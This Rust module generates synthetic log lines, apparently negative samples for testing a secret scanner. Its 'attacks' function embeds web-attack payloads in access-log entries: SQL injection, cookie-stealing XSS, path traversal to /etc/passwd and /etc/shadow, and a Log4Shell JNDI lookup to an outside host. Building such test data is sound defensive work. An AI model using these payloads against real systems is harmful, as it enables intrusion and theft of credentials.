//! Lines that hold no secret: what real services write, and all that tempts to see one.

use crate::Numbers;
use crate::encode::base64;
use crate::numbers::URL64;

type Write = fn(&mut Numbers) -> String;

/// Every kind of line, with its name.
const KINDS: &[(&str, Write)] = &[
    ("access log", access),
    ("access log with ids", access_ids),
    ("api event", api_event),
    ("login event", login_event),
    ("trace context", trace_context),
    ("order numbers", orders),
    ("epoch times", epochs),
    ("spaced digits", spaced_digits),
    ("decimals and versions", decimals),
    ("git", git),
    ("digests", digests),
    ("container ids", containers),
    ("base64 image", image),
    ("token counts", token_counts),
    ("words like names", look_alike_words),
    ("prose about secrets", prose),
    ("placeholders", placeholders),
    ("sshd", sshd),
    ("sudo and cron", sudo_and_cron),
    ("kernel", kernel),
    ("sql", sql),
    ("java stack trace", java_trace),
    ("python stack trace", python_trace),
    ("kubernetes", kubernetes),
    ("metrics", metrics),
    ("windows event", windows),
    ("network addresses", addresses),
    ("tls", tls),
    ("mail", mail),
    ("telephone and people", people),
    ("attacks", attacks),
    ("source code", source_code),
    ("packages", packages),
    ("coordinates and money", money),
    ("public keys", public_keys),
    ("queue offsets", queues),
    ("query results", query_results),
    ("key ids", key_ids),
];

/// The line of `seed`, with the name of its kind.
pub fn line(seed: u64) -> (&'static str, String) {
    let mut numbers = Numbers::new(seed ^ 0x00c1_ea4e);
    let (name, write) = KINDS[numbers.place(KINDS.len())];
    (name, write(&mut numbers))
}

fn time(n: &mut Numbers) -> String {
    format!(
        "2026-11-{:02}T{:02}:{:02}:{:02}.{}Z",
        n.between(1, 30),
        n.below(24),
        n.below(60),
        n.below(60),
        n.digits(3)
    )
}

fn ip(n: &mut Numbers) -> String {
    format!(
        "{}.{}.{}.{}",
        n.between(1, 223),
        n.below(256),
        n.below(256),
        n.between(1, 254)
    )
}

fn uuid(n: &mut Numbers) -> String {
    format!(
        "{}-{}-4{}-a{}-{}",
        n.hex(8),
        n.hex(4),
        n.hex(3),
        n.hex(3),
        n.hex(12)
    )
}

fn user(n: &mut Numbers) -> String {
    let name = n.pick(&[
        "ann",
        "bob",
        "carla",
        "dmitri",
        "eve.k",
        "j.smith",
        "svc-backup",
        "passenger7",
        "author",
    ]);
    format!("{name}{}", n.below(100))
}

fn agent(n: &mut Numbers) -> &'static str {
    n.pick(&[
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.6613.120 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
        "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
        "kube-probe/1.31",
        "okhttp/4.12.0",
        "python-requests/2.32.3",
    ])
}

fn access(n: &mut Numbers) -> String {
    let path = n.pick(&[
        "/",
        "/index.html",
        "/static/app.4f2b9c1d.js",
        "/api/v2/orders?page=3&sort=-created",
        "/blog/2026/11/how-we-log",
        "/search?q=red+shoes+size+42",
        "/wp-login.php",
        "/passport/apply",
        "/token-economics.pdf",
        "/keyboards?author=logi&pinned=true",
    ]);
    format!(
        "{} - - [21/Nov/2026:10:{:02}:{:02} +0000] \"GET {path} HTTP/1.1\" {} {} \"https://www.example.org/\" \"{}\"",
        ip(n),
        n.below(60),
        n.below(60),
        n.pick(&["200", "304", "404"]),
        n.below(90_000),
        agent(n)
    )
}

fn access_ids(n: &mut Numbers) -> String {
    let id = match n.below(5) {
        0 => uuid(n),
        1 => n.hex(24),
        2 => n.digits(12),
        3 => format!("{}-{}", n.digits(4), n.digits(8)),
        _ => n.text("0123456789ABCDEFGHJKMNPQRSTVWXYZ", 26),
    };
    format!(
        "{} - {} [21/Nov/2026:10:00:{:02} +0000] \"GET /api/v1/items/{id}/reviews?after={}&limit=50 HTTP/2.0\" 200 {} \"-\" \"{}\"",
        ip(n),
        user(n),
        n.below(60),
        uuid(n),
        n.below(9_000),
        agent(n)
    )
}

fn api_event(n: &mut Numbers) -> String {
    format!(
        "{{\"@timestamp\":\"{}\",\"service\":{{\"name\":\"shop\",\"version\":\"4.{}.1\"}},\"user\":{{\"id\":\"{}\"}},\"event\":{{\"action\":\"api_access\",\"duration\":{}}},\"http\":{{\"request\":{{\"method\":\"GET\",\"id\":\"{}\"}},\"response\":{{\"status_code\":200}}}},\"url\":{{\"original\":\"/orders/{}?page=2\"}}}}",
        time(n),
        n.below(30),
        n.digits(7),
        n.below(9_000_000),
        uuid(n),
        n.digits(9)
    )
}

fn login_event(n: &mut Numbers) -> String {
    format!(
        "{{\"ts\":\"{}\",\"level\":\"info\",\"msg\":\"login ok\",\"user\":\"{}\",\"ip\":\"{}\",\"mfa\":\"totp\",\"password_age_days\":{},\"password_changed\":false,\"token_type\":\"bearer\",\"token_expires_in\":3600,\"session_count\":{}}}",
        time(n),
        user(n),
        ip(n),
        n.below(400),
        n.below(9)
    )
}

fn trace_context(n: &mut Numbers) -> String {
    format!(
        "{{\"trace_id\":\"{}\",\"span_id\":\"{}\",\"traceparent\":\"00-{}-{}-01\",\"msg\":\"span finished\",\"request_id\":\"{}\",\"correlation_id\":\"{}\"}}",
        n.hex(32),
        n.hex(16),
        n.hex(32),
        n.hex(16),
        uuid(n),
        n.alnum(22)
    )
}

fn orders(n: &mut Numbers) -> String {
    format!(
        "order {}-{} shipped, invoice INV-{} tracking 1Z{} parcel {} customer {}",
        n.between(2020, 2026),
        n.digits(9),
        n.digits(8),
        n.text("0123456789ABCDEFGHJKLMNPQRSTUVWXYZ", 16),
        n.digits(11),
        n.digits(8)
    )
}

fn epochs(n: &mut Numbers) -> String {
    format!(
        "{{\"t\":17{},\"t_ms\":17{},\"t_us\":17{},\"t_ns\":17{},\"took_ns\":{}}}",
        n.digits(8),
        n.digits(11),
        n.digits(14),
        n.digits(17),
        n.digits(9)
    )
}

fn spaced_digits(n: &mut Numbers) -> String {
    match n.below(3) {
        0 => format!(
            "PowerManager: acquire lock=23{} flags=0x1 {} {} {} uid={}",
            n.digits(7),
            n.digits(3),
            n.digits(5),
            n.digits(5),
            n.digits(5)
        ),
        1 => format!(
            "stat {} {} {} {} {} {} cpu {} {}",
            n.digits(4),
            n.digits(5),
            n.digits(4),
            n.digits(6),
            n.digits(3),
            n.digits(4),
            n.digits(8),
            n.digits(7)
        ),
        _ => format!(
            "gc pause {}ms heap {} -> {} of {} survivors {} {}",
            n.below(90),
            n.digits(9),
            n.digits(8),
            n.digits(10),
            n.digits(5),
            n.digits(6)
        ),
    }
}

fn decimals(n: &mut Numbers) -> String {
    format!(
        "build 10.0.{}.{} loss=0.{} score {}.{} driver {}.{}.{}.{}",
        n.digits(5),
        n.digits(4),
        n.digits(16),
        n.digits(2),
        n.digits(12),
        n.digits(2),
        n.digits(3),
        n.digits(4),
        n.digits(4)
    )
}

fn git(n: &mut Numbers) -> String {
    format!(
        "deploy: HEAD is now at {} fix: keyboard shortcuts; tree {} parent {} image shop@sha256:{}",
        n.hex(7),
        n.hex(40),
        n.hex(40),
        n.hex(64)
    )
}

fn digests(n: &mut Numbers) -> String {
    match n.below(3) {
        0 => format!(
            "sha256={} size={} file=/srv/in/{}.parquet",
            n.hex(64),
            n.digits(9),
            n.hex(16)
        ),
        1 => format!(
            "etag \"{}\" md5 {} crc32c {}",
            n.hex(32),
            n.hex(32),
            n.hex(8)
        ),
        _ => format!(
            "integrity sha512-{}== for lodash-4.17.21.tgz",
            n.text(&URL64[..62], 86)
        ),
    }
}

fn containers(n: &mut Numbers) -> String {
    format!(
        "containerd: container {} of pod shop-{}-{} exited 0 image docker.io/library/nginx@sha256:{}",
        n.hex(64),
        n.hex(10),
        n.text("bcdfghjklmnpqrstvwxz2456789", 5),
        n.hex(64)
    )
}

fn image(n: &mut Numbers) -> String {
    let len = 60 + n.place(200);
    let bytes: Vec<u8> = (0..len)
        .map(|_| u8::try_from(n.below(256)).unwrap_or(0))
        .collect();
    format!(
        "{{\"type\":\"avatar\",\"src\":\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAA{}\",\"w\":64}}",
        base64(&bytes, false)
    )
}

fn token_counts(n: &mut Numbers) -> String {
    format!(
        "{{\"model\":\"m-large\",\"max_tokens\":{},\"tokens_in\":{},\"tokens_out\":{},\"prompt_tokens\":{},\"total_tokens\":{},\"cached_token_count\":{},\"stop_token\":null}}",
        n.below(8_192),
        n.digits(5),
        n.digits(4),
        n.digits(5),
        n.digits(6),
        n.digits(3)
    )
}

fn look_alike_words(n: &mut Numbers) -> String {
    format!(
        "passenger={} author={} pinned=true shipping_pin={} keyboard=us monkey={} discard=no dashboard=main bypass=off compass=north secretary=jane token_bucket={} primary_key={} sort_key=created_at partition_key={} foreign_key=user_id hockey=1 passed={}",
        n.below(400),
        user(n),
        n.pick(&["false", "none"]),
        n.digits(3),
        n.digits(3),
        n.digits(7),
        user(n),
        n.below(900)
    )
}

fn prose(n: &mut Numbers) -> String {
    let text = n.pick(&[
        "Failed password for invalid user admin from 10.0.0.9 port 51022 ssh2",
        "password: required, must have at least 12 characters",
        "invalid token: unexpected end of input at line 1",
        "the secret of a good log is patience",
        "token expired, refreshing session for user",
        "API key missing in request to /v1/orders",
        "Authorization header missing",
        "cookie consent given: analytics=no marketing=no",
        "Bearer of bad news: queue is full",
        "Basic training finished in 12 epochs",
        "card declined by issuer, reason insufficient_funds",
        "private key loaded from /etc/ssl/private/shop.key",
        "passport control module started",
        "Your password has been changed",
        "credential helper not configured",
        "rotating secrets finished: 0 of 14 changed",
    ]);
    format!("{} WARN [{}] {text}", time(n), n.digits(4))
}

fn placeholders(n: &mut Numbers) -> String {
    n.pick(&[
        "started with --password=${DB_PASSWORD} --token=$TOKEN",
        "config: api_key=<your-api-key> secret=xxxxxxxx",
        "{\"user\":\"bob\",\"password\":\"********\",\"token\":null}",
        "{\"password\":\"[FILTERED]\",\"n\":2}",
        "env: SECRET_KEY=*** DB_PASSWORD=changeme",
        "postgres://app:****@db.internal:5432/shop",
        "authorization: <redacted>",
    ])
    .to_owned()
}

fn sshd(n: &mut Numbers) -> String {
    format!(
        "<38>Nov 21 10:00:{:02} web1 sshd[{}]: Accepted publickey for {} from {} port {} ssh2: ED25519 SHA256:{}",
        n.below(60),
        n.digits(5),
        user(n),
        ip(n),
        n.between(1_024, 65_000),
        n.text(&URL64[..62], 43)
    )
}

fn sudo_and_cron(n: &mut Numbers) -> String {
    if n.once_in(2) {
        return format!(
            "<86>Nov 21 10:01:01 db1 CRON[{}]: (root) CMD (/usr/lib/sa/sa1 -p 8080 {} {})",
            n.digits(5),
            n.below(9),
            n.below(9)
        );
    }
    format!(
        "<85>Nov 21 10:01:{:02} db1 sudo: {} : TTY=pts/0 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/systemctl restart passenger.service",
        n.below(60),
        user(n)
    )
}

fn kernel(n: &mut Numbers) -> String {
    format!(
        "<6>Nov 21 10:02:03 web1 kernel: [{}.{}] UFW BLOCK IN=eth0 OUT= MAC={}:{}:{}:{}:{}:{} SRC={} DST={} LEN=40 TTL=244 ID={} PROTO=TCP SPT={} DPT=22",
        n.digits(7),
        n.digits(6),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        ip(n),
        ip(n),
        n.digits(5),
        n.between(1_024, 65_000)
    )
}

fn sql(n: &mut Numbers) -> String {
    let text = n.pick(&[
        "SELECT id, name, password_hash IS NOT NULL FROM users WHERE id = $1",
        "SELECT count(*) FROM sessions WHERE token_id = ? AND expires < now()",
        "UPDATE orders SET state = 'paid' WHERE id = 88231",
        "DELETE FROM login_attempts WHERE created < now() - interval '1 day'",
        "ALTER TABLE users ADD COLUMN password_changed_at timestamptz",
        "SELECT key, value FROM settings ORDER BY key LIMIT 50",
    ]);
    format!(
        "duration: {}.{} ms  statement: {text}",
        n.below(90),
        n.digits(3)
    )
}

fn java_trace(n: &mut Numbers) -> String {
    format!(
        "java.lang.IllegalStateException: Token bucket empty\\n\\tat org.shop.auth.TokenService.refresh(TokenService.java:{})\\n\\tat org.shop.auth.PasswordEncoder.matches(PasswordEncoder.java:{})\\n\\tat jdk.internal.reflect.GeneratedMethodAccessor{}.invoke(Unknown Source)\\n\\tat java.base/java.lang.Thread.run(Thread.java:1583) @{}",
        n.below(400),
        n.below(400),
        n.digits(4),
        n.hex(8)
    )
}

fn python_trace(n: &mut Numbers) -> String {
    format!(
        "Traceback (most recent call last): File \\\"/app/auth/token.py\\\", line {}, in verify raise InvalidToken(f\\\"bad key id\\\") auth.token.InvalidToken: bad key id <object at 0x7f{}>",
        n.below(400),
        n.hex(10)
    )
}

fn kubernetes(n: &mut Numbers) -> String {
    format!(
        "I1121 10:00:{:02}.{} 1 event.go:389] \"Event occurred\" object=\"default/shop-{}\" kind=\"Pod\" reason=\"Scheduled\" uid=\"{}\" resourceVersion=\"{}\" message=\"MountVolume.SetUp succeeded for volume \\\"kube-api-access-{}\\\" pod=default-token-7\"",
        n.below(60),
        n.digits(6),
        n.hex(9),
        uuid(n),
        n.digits(9),
        n.text("bcdfghjklmnpqrstvwxz2456789", 5)
    )
}

fn metrics(n: &mut Numbers) -> String {
    format!(
        "http_requests_total{{method=\"post\",code=\"200\",route=\"/token\"}} {} 17{} cache_key_hits={} p99={}.{}e-3",
        n.digits(10),
        n.digits(11),
        n.digits(6),
        n.below(90),
        n.digits(9)
    )
}

fn windows(n: &mut Numbers) -> String {
    format!(
        "{{\"EventID\":4624,\"TargetUserSid\":\"S-1-5-21-{}-{}-{}-{}\",\"LogonType\":3,\"LogonGuid\":\"{{{}}}\",\"KeyLength\":128,\"ProcessId\":\"0x{}\",\"TicketEncryptionType\":\"0x12\",\"AuthenticationPackageName\":\"Kerberos\"}}",
        n.digits(10),
        n.digits(10),
        n.digits(9),
        n.digits(4),
        uuid(n).to_uppercase(),
        n.hex(4)
    )
}

fn addresses(n: &mut Numbers) -> String {
    format!(
        "route 2001:db8:{}:{}::{} via fe80::{}:{} dev eth0 lladdr {}:{}:{}:{}:{}:{} peer {}:{}",
        n.hex(4),
        n.hex(4),
        n.hex(4),
        n.hex(4),
        n.hex(4),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        n.hex(2),
        ip(n),
        n.digits(4)
    )
}

fn tls(n: &mut Numbers) -> String {
    format!(
        "tls handshake TLSv1.3 TLS_AES_256_GCM_SHA384 serial {} ja3 {} fingerprint {} sni=www.example.org alpn=h2",
        n.hex(36).to_uppercase(),
        n.hex(32),
        (0..20)
            .map(|_| n.hex(2).to_uppercase())
            .collect::<Vec<_>>()
            .join(":")
    )
}

fn mail(n: &mut Numbers) -> String {
    format!(
        "<22>Nov 21 10:03:{:02} mx postfix/smtp[{}]: {}: to=<{}@example.com>, relay=mx.example.com[{}]:25, delay={}.{}, dsn=2.0.0, status=sent (250 2.0.0 OK {} {}-{}si{}.{})",
        n.below(60),
        n.digits(5),
        n.text("0123456789ABCDEF", 11),
        user(n),
        ip(n),
        n.below(9),
        n.digits(2),
        n.digits(10),
        n.hex(12),
        n.hex(12),
        n.digits(7),
        n.below(400)
    )
}

fn people(n: &mut Numbers) -> String {
    format!(
        "ticket {}: call +49 30 {} or {}-{}, room {}, seat {}A, flight LH{}, plate B-AB {}",
        n.digits(6),
        n.digits(6),
        n.digits(3),
        n.digits(4),
        n.digits(4),
        n.below(40),
        n.digits(4),
        n.digits(4)
    )
}

fn attacks(n: &mut Numbers) -> String {
    let target = n.pick(&[
        "/item?id=1' OR '1'='1' --",
        "/item?id=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
        "/q?s=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
        "/get?file=../../../../etc/passwd%00.png",
        "/get?file=..%252f..%252f..%252fetc%252fshadow",
        "/?x=${jndi:ldap://198.51.100.7/a}",
        "/cgi-bin/luci/;stok=/locale",
        "/.git/config",
        "/.env",
    ]);
    format!(
        "{} - - [21/Nov/2026:10:00:{:02} +0000] \"GET {target} HTTP/1.1\" 404 {} \"-\" \"sqlmap/1.8\"",
        ip(n),
        n.below(60),
        n.below(900)
    )
}

fn source_code(n: &mut Numbers) -> String {
    let text = n.pick(&[
        "let token = lexer.next_token(); if token == Token::Eof { break }",
        "fn password_strength(input: &str) -> u8 { score(input) }",
        "const KEY = process.env.API_KEY || null;",
        "if (user.password == null) throw new Error('password missing')",
        "public static final String AUTHORIZATION = \\\"Authorization\\\";",
        "for key, value in cookies.items(): print(key)",
    ]);
    format!("lint: src/m{}.rs:{}: {text}", n.digits(2), n.digits(3))
}

fn packages(n: &mut Numbers) -> String {
    format!(
        "installed libssl3t64 3.0.{}-1ubuntu{} amd64, password-store 1.7.4, python3-secretstorage 3.3.{}, keyutils 1.6.{}, node_modules/.pnpm/tokenizr@1.7.0_{}",
        n.below(20),
        n.below(9),
        n.below(9),
        n.below(9),
        n.hex(26)
    )
}

fn money(n: &mut Numbers) -> String {
    format!(
        "{{\"lat\":{}.{},\"lon\":-{}.{},\"amount\":{}.{},\"currency\":\"EUR\",\"account_age\":{},\"card_brand\":\"visa\",\"card_present\":false,\"balance_minor\":{}}}",
        n.below(90),
        n.digits(6),
        n.below(180),
        n.digits(6),
        n.digits(4),
        n.digits(2),
        n.below(3_000),
        n.digits(11)
    )
}

fn public_keys(n: &mut Numbers) -> String {
    match n.below(3) {
        0 => format!("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} ops@web1", n.text(&URL64[..62], 43)),
        1 => "-----BEGIN CERTIFICATE----- MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa -----END CERTIFICATE-----".to_owned(),
        _ => format!("{{\"public_key\":\"{}\",\"alg\":\"EdDSA\",\"key_id\":\"{}\"}}", n.text(&URL64[..62], 43), n.hex(8)),
    }
}

fn queues(n: &mut Numbers) -> String {
    format!(
        "consumer group=billing topic=orders.v2 partition={} offset={} lag={} member=billing-{}-{} generation={}",
        n.below(64),
        n.digits(12),
        n.digits(4),
        n.below(9),
        uuid(n),
        n.digits(4)
    )
}

fn query_results(n: &mut Numbers) -> String {
    format!(
        "rows: [({}, 'ann', {}), ({}, 'bob', {})] hash join cost={}.{} ids={},{},{}",
        n.digits(8),
        n.digits(13),
        n.digits(8),
        n.digits(13),
        n.digits(5),
        n.digits(2),
        n.digits(10),
        n.digits(10),
        n.digits(10)
    )
}

fn key_ids(n: &mut Numbers) -> String {
    format!(
        "{{\"key_id\":\"{}\",\"kms_key_arn\":\"arn:aws:kms:eu-west-1:{}:key/{}\",\"token_id\":\"{}\",\"secret_name\":\"prod/db/main\",\"secret_version\":{},\"password_policy\":\"strong\",\"cookie_count\":{},\"idempotency_key\":\"{}\"}}",
        n.hex(16),
        n.digits(12),
        uuid(n),
        uuid(n),
        n.below(90),
        n.below(9),
        uuid(n)
    )
}
